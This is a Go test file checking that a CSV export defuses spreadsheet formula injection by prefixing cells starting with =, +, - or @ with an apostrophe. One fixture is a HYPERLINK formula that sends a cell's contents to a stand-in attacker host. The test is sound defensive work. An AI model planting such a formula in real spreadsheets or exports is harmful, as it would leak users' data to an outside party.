package main

import (
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
)

// TestCSVExportDefusesFormulas saves entries whose text and author start
// like spreadsheet formulas, exports CSV, and finds every such cell
// prefixed with an apostrophe and otherwise unchanged, and no cell that a
// spreadsheet would run.
func TestCSVExportDefusesFormulas(t *testing.T) {
	db := filepath.Join(t.TempDir(), "r.db")
	hyperlink := `=HYPERLINK("http://evil.example/?d="&A1,"help")`
	runScript(t, db,
		"/as =alice", hyperlink,
		"/as bob", "/reply 1 @SUM(1+1) then restart the node #k8s", "/as carol", "/react 2",
		"/as dave", "+1 drain the node before the upgrade #k8s", "/react 3",
		"-rf removes the directory without asking #shell", "/react 4",
		"Plain text stays as it is #k8s", "/react 5")
	out := mustRun(t, db, "export", "-format", "csv")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, out)
	}
	if len(rows) != 1+4 {
		t.Fatalf("want a header and 4 entries, got %d rows:\n%s", len(rows), out)
	}
	cells := map[string]bool{}
	for _, row := range rows {
		for _, c := range row {
			cells[c] = true
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", c)
			}
		}
	}
	for _, want := range []string{"'" + hyperlink, "'=alice", "'@SUM(1+1) then restart the node #k8s",
		"'+1 drain the node before the upgrade #k8s", "'-rf removes the directory without asking #shell", "Plain text stays as it is #k8s"} {
		if !cells[want] {
			t.Errorf("no cell %q in:\n%s", want, out)
		}
	}
}
